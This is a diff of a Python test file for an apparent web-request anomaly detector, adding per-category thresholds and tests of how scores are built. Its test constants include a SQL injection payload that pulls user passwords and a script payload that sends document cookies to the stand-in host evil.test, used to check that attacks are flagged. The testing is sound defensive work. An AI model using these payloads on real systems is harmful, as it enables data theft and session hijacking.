@@ -2,16 +2,18 @@
 
 from __future__ import annotations
 
+from collections import Counter
 from dataclasses import replace
 from urllib.parse import quote
 
 import numpy as np
 import pytest
 from cnaf.learner.fit import FitResult
-from cnaf.models.exchange import Request
+from cnaf.models.calibration import category_of
+from cnaf.models.exchange import Exchange, Request
 from cnaf.models.features import COLUMNS
 from cnaf.models.fields import Field, Location
-from cnaf.models.kernels import CHANNELS, MEASURES, NOVELTIES, fuse
+from cnaf.models.kernels import CHANNELS, MEASURES, NOVELTIES, SURPRISE_CAP, fuse, surprise
 from cnaf.models.parsing import RequestParser
 from cnaf.models.request_model import (
     FIRM_BITS,
@@ -22,12 +24,13 @@ from cnaf.models.request_model import (
     is_learned,
     without_host,
 )
-from cnaf.models.structure import News
+from cnaf.models.scoring import RICH, TAIL_GROUPS
+from cnaf.models.structure import News, news_of
 from cnaf.models.value_types import ValueType
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from tests.support.shop import request, shop_fit, shop_traffic
+from tests.support.shop import request, shop_fit, shop_samples, shop_traffic
 
 INJECTION = "1' UNION SELECT user, password FROM users-- -"
 SCRIPT = "<script>fetch('//evil.test/'+document.cookie)</script>"
@@ -36,6 +39,17 @@ SCRIPT = "<script>fetch('//evil.test/'+document.cookie)</script>"
 def newness(found: Score) -> dict[str, float]:
     """What is new about a request, in bits, where anything is."""
     return {name: bits for name, bits in zip(NOVELTIES, found.news, strict=True) if bits}
+
+
+def alarms(scorer: Scorer, traffic: list[Exchange], rate: float) -> float:
+    """The share of requests that reach the threshold of their category, by what may block."""
+    parser, thresholds = RequestParser(), scorer.model.calibration.thresholds(rate)
+    reached = []
+    for exchange in traffic:
+        parsed = parser.parse(exchange.request)
+        found = scorer.score(parsed)
+        reached.append(scorer.blockable(parsed, found) >= thresholds[found.category])
+    return float(np.mean(reached))
 
 
 @pytest.fixture(scope="module")
@@ -105,7 +119,7 @@ class TestAttacks:
         calm = score(scorer, request(target=f"/search?q={quoted(text)}"))
         padded = score(scorer, request(target=f"/search?q={quoted(text + SCRIPT + ' ' + text)}"))
         assert padded.score > calm.score + 3
-        assert padded.score >= fitted.model.calibration.threshold(0.01)
+        assert padded.score >= fitted.model.calibration.thresholds(0.01)[padded.category]
 
     def test_encoding_twice_does_not_hide_it(self, scorer: Scorer, trained: np.ndarray) -> None:
         twice = quoted(quoted(INJECTION))
@@ -121,17 +135,18 @@ class TestAttacks:
 
 
 class TestBenign:
-    def test_what_was_learned_scores_low(self, fitted: FitResult, trained: np.ndarray) -> None:
-        calibration = fitted.model.calibration
-        assert np.mean(trained >= calibration.threshold(0.05)) < 0.05
-        # Learned requests fit better than the same ones did when they were held out.
-        assert np.median(trained) <= np.median(fitted.held_out)
-
-    def test_traffic_of_other_sessions_stays_within_the_rate(
-        self, fitted: FitResult, scorer: Scorer
+    def test_what_was_learned_scores_low(
+        self, fitted: FitResult, scorer: Scorer, trained: np.ndarray
     ) -> None:
-        scores = np.array([score(scorer, e.request).score for e in shop_traffic(30, seed=9)])
-        assert np.mean(scores >= fitted.model.calibration.threshold(0.02)) < 0.04
+        assert alarms(scorer, list(shop_traffic()), 0.05) < 0.02
+        # Learned requests fit better than the same ones did when they were held out.
+        assert np.median(trained) <= np.median(fitted.blockable)
+
+    @pytest.mark.parametrize(("rate", "most"), [(0.05, 0.03), (0.02, 0.01), (0.001, 0.0)])
+    def test_traffic_of_other_sessions_stays_within_the_rate(
+        self, scorer: Scorer, rate: float, most: float
+    ) -> None:
+        assert alarms(scorer, list(shop_traffic(30, seed=9)), rate) <= most
 
     @pytest.mark.parametrize(
         ("made", "new"),
@@ -148,6 +163,8 @@ class TestBenign:
             (request(target="/products?page=1&sort=price&debug=true"), {"composition", "name"}),
             (request(target="/nowhere?debug=true"), {"path", "name"}),
             (request("PUT", "/search?debug=true"), {"method", "name"}),
+            (request("POST", "/never-seen"), {"path"}),
+            (request("PURGE", "/never-seen"), {"path", "method"}),
             (request(target="/products/7"), set()),
             (request(target="/search?q=hat"), set()),
         ],
@@ -160,17 +177,24 @@ class TestBenign:
         assert set(told) == new
         assert (found.endpoint is None) == bool(new & {"path", "method"})
         route = made.target.decode().partition("?")[0]
+        answered: Counter[str] = Counter()
+        for e in model.endpoints:
+            answered[e.method] += e.sessions
         expected = {
             "path": model.tree.match(route).news,
             "name": model.names.bits,
             "composition": found.endpoint.news.bits if found.endpoint else 0.0,
-            "method": next(
-                (
-                    News(e.sessions, int(e.sessions == 1)).bits
-                    for e in model.endpoints
-                    if e.template == found.template
+            "method": max(
+                next(
+                    (
+                        News(e.sessions, int(e.sessions == 1)).bits
+                        for e in model.endpoints
+                        if e.template == found.template
+                    ),
+                    0.0,
                 ),
-                0.0,
+                # Where no endpoint answers the method, all of them speak.
+                0.0 if made.method in answered else news_of(answered.values()).bits,
             ),
         }
         assert told == {name: expected[name] for name in new}
@@ -178,6 +202,14 @@ class TestBenign:
         columns = found.out[-len(COLUMNS) :][COLUMNS.index("new-path") :][: len(NOVELTIES)]
         assert columns.tolist() == found.novelties.tolist()
         assert [z > 0 for z in found.novelties.tolist()] == [bool(bits) for bits in found.news]
+
+    def test_a_method_that_no_endpoint_answers_is_more_news_than_one_of_another(
+        self, scorer: Scorer
+    ) -> None:
+        elsewhere = score(scorer, request("POST", "/search?q=hat"))
+        nowhere = score(scorer, request("DELETE", "/search?q=hat"))
+        assert nowhere.news[1] > elsewhere.news[1] > 0
+        assert nowhere.score >= elsewhere.score
 
     def test_lists_are_as_long_as_they_are(self, scorer: Scorer) -> None:
         items = b",".join([b'{"sku":"hat-123","count":1}'] * 9)
@@ -251,7 +283,7 @@ class TestContract:
             array.tobytes()
             for array in (model.table.tags, model.table.bits, model.escapes, model.seen,
                           model.longest, model.shortest, model.scales, model.tail_points,
-                          model.calibration.scores, model.blocking.plain.scores)
+                          *(category.scores for category in model.calibration.categories))
         ) + repr((model.profiles, model.endpoints, model.tree.templates())).encode()  # fmt: skip
         parser = RequestParser()
         for exchange in shop_traffic():
@@ -278,12 +310,13 @@ class TestBlockable:
     def test_a_forgotten_page_is_ordinary_and_an_attack_on_it_is_not(
         self, fitted: FitResult, scorer: Scorer, page: str, rate: float
     ) -> None:
-        threshold, _ = fitted.model.blocking.thresholds(rate)
+        thresholds = fitted.model.calibration.thresholds(rate)
         part, whole = self.blockable(scorer, request(target=page))
-        assert part < threshold
+        assert part < thresholds[whole.category]
         assert part < whole.score
         attacked = request(target=f"{page}?q={quote(INJECTION)}")
-        assert self.blockable(scorer, attacked)[0] >= threshold
+        part, whole = self.blockable(scorer, attacked)
+        assert part >= thresholds[whole.category]
 
     @pytest.mark.parametrize(
         "made",
@@ -323,6 +356,118 @@ class TestBlockable:
         syntax, _ = self.blockable(scorer, request(target="/<zq>$(x)/'or'1"))
         assert found.news[0] < FIRM_BITS
         assert syntax > words + 1
+
+
+class TestCategory:
+    """What a request is held against: has it a body, and is its oddest value free text."""
+
+    @pytest.mark.parametrize(
+        ("made", "body", "text"),
+        [
+            (request(target="/"), False, False),
+            (request(target="/products?page=1'--&sort=name"), False, False),
+            (request("POST", "/login", b"email=a%27--&password=0123456789"), True, False),
+            (
+                request("POST", "/reviews", b"rating=3&title=nice&text=%3Cp%3E%3Bx%7C%28y%29"),
+                True, True,
+            ),
+            (request("POST", "/reviews", b"rating=3%27--&title=nice&text=%3Cp%3Ered"), True, False),
+            # A name that the image never showed is of the kind of its value.
+            (request(target="/products?page=1&sort=name&why=%3Cp%3E%3Cb+x%3D(y)%3E%3Cu%3E"),
+             False, True),
+        ],
+    )  # fmt: skip
+    def test_is_told_by_body_and_oddest_value(
+        self, scorer: Scorer, made: Request, body: bool, text: bool
+    ) -> None:
+        assert score(scorer, made).category == category_of(body, text)
+
+    @settings(deadline=None, max_examples=60)
+    @given(st.integers(0, 300))
+    def test_is_that_of_the_value_with_the_highest_score(self, which: int) -> None:
+        scorer = Scorer(shop_fit().model)
+        parsed = RequestParser().parse(shop_traffic(30, seed=9)[which].request)
+        found = scorer.score(parsed)
+        _, types, _ = scorer.related(parsed)
+        rich = TAIL_GROUPS[types[int(np.argmax(found.values))]] == RICH
+        assert found.category == category_of(parsed.body_bytes > 0, bool(rich))
+
+    def test_a_fit_tells_it_alike_out_of_fold(self, fitted: FitResult, scorer: Scorer) -> None:
+        """Mostly: the folds have seen less than the model that scores now."""
+        now = [
+            score(scorer, shop_traffic()[i].request).category
+            for i in shop_samples().distinct().tolist()
+        ]
+        assert np.mean(np.array(now) // 2 == fitted.categories // 2) == 1.0
+        assert np.mean(np.array(now) == fitted.categories) > 0.9
+
+
+class TestParts:
+    """What a reference is made from is what a score is made from."""
+
+    @settings(deadline=None, max_examples=80)
+    @given(st.integers(0, 300), st.booleans())
+    def test_related_measures_give_the_surprises_of_the_score(
+        self, which: int, attacked: bool
+    ) -> None:
+        model = shop_fit().model
+        scorer, made = Scorer(model), shop_traffic(30, seed=9)[which].request
+        if attacked:
+            made = replace(made, target=made.target + b"?q=" + quote(INJECTION).encode())
+        parsed = RequestParser().parse(made)
+        found = scorer.score(parsed)
+        relative, types, known = scorer.related(parsed)
+        assert relative.shape == found.surprises.shape
+        assert relative.dtype == np.float32
+        assert len(types) == len(known) == len(found.indices)
+        for position, index in enumerate(found.indices):
+            field = parsed.fields[index]
+            profile = next((p for p in model.profiles if (p.location, p.name) == field[:2]), None)
+            assert bool(known[position]) == (profile is not None and not profile.thin)
+            if profile is not None:
+                assert types[position] == profile.kind
+            for measure in range(len(MEASURES)):
+                row = TAIL_GROUPS[types[position]] * len(MEASURES) + measure
+                expected = surprise(
+                    relative[position, measure], model.tail_points[row], model.tail_slopes[row]
+                )
+                assert found.surprises[position, measure] == pytest.approx(
+                    min(SURPRISE_CAP, expected), abs=1e-4
+                )
+
+    @settings(deadline=None, max_examples=80)
+    @given(st.integers(0, 300), st.sampled_from(["", "/new-page", "/products/7/edit?debug=1"]))
+    def test_channels_under_their_tails_give_the_score(self, which: int, elsewhere: str) -> None:
+        model = shop_fit().model
+        scorer, made = Scorer(model), shop_traffic(30, seed=9)[which].request
+        if elsewhere:
+            made = replace(made, target=elsewhere.encode())
+        found = scorer.score(RequestParser().parse(made))
+        channels = scorer.channels(found)
+        assert channels.shape == (len(CHANNELS),)
+        assert channels[0] == pytest.approx(max(found.values, default=0.0), abs=1e-5)
+        assert channels[1] == pytest.approx(float(found.novelties.sum()), abs=1e-5)
+        assert channels[2] >= channels[0] + channels[1] - 1e-5
+        first = len(model.tail_points) - len(CHANNELS)
+        told = [
+            surprise(channel, model.tail_points[first + k], model.tail_slopes[first + k])
+            for k, channel in enumerate(channels)
+        ]
+        assert found.score == pytest.approx(min(SURPRISE_CAP, max(0.0, *told)), abs=1e-5)
+
+    @settings(deadline=None, max_examples=60)
+    @given(st.integers(0, 300))
+    def test_where_nothing_is_new_all_of_the_score_may_block(self, which: int) -> None:
+        scorer = Scorer(shop_fit().model)
+        parsed = RequestParser().parse(shop_traffic(30, seed=9)[which].request)
+        found = scorer.score(parsed)
+        part = scorer.blockable(parsed, found)
+        assert part == found.score if not any(found.news) else part <= found.score
+
+    def test_a_request_without_a_scored_value_has_channels(self, scorer: Scorer) -> None:
+        empty = Score(0.0, 0.5, 0, "GET", "/", None, (0.0,) * 4, [], [],
+                      np.zeros(len(NOVELTIES) + len(COLUMNS), np.float32))  # fmt: skip
+        assert scorer.channels(empty)[:2].tolist() == [0.0, 0.0]
 
 
 class TestSpeaksAgainst:
